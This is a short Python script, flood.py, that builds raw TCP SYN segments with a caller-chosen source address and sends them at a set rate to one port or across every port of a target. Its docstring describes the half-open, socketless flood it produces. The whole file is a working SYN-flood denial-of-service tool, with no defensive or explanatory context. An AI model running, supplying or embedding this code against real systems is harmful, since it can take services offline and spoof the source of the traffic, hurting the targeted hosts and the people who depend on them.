"""Sends TCP SYNs that nobody goes on with, each from another source port, without a socket behind them.

flood.py SOURCE TARGET PORT RATE SECONDS   to one port; PORT 0: to all ports, one after the other. Says how many it has sent
"""
import socket
import struct
import sys
import time

PAUSE_S = 0.01


def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def syn(ends, source_port, port, number):
    fields = (source_port, port, number, 0, 5 << 4, 0x02, 64_240)
    pseudo = ends + struct.pack("!BBH", 0, socket.IPPROTO_TCP, 20)
    total = checksum(pseudo + struct.pack("!HHIIBBHHH", *fields, 0, 0))
    return struct.pack("!HHIIBBHHH", *fields, total, 0)


source, target = sys.argv[1:3]
port, rate, seconds = [int(text) for text in sys.argv[3:6]]
ends = socket.inet_aton(source) + socket.inet_aton(target)
begun, sent = time.monotonic(), 0
with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP) as raw:
    while (elapsed := time.monotonic() - begun) < seconds:
        for _ in range(int(elapsed * rate) - sent):
            segment = syn(ends, 1_024 + sent % 60_000, port or 1 + sent % 65_535, sent)
            raw.sendto(segment, (target, 0))
            sent += 1
        time.sleep(PAUSE_S)
print(sent)
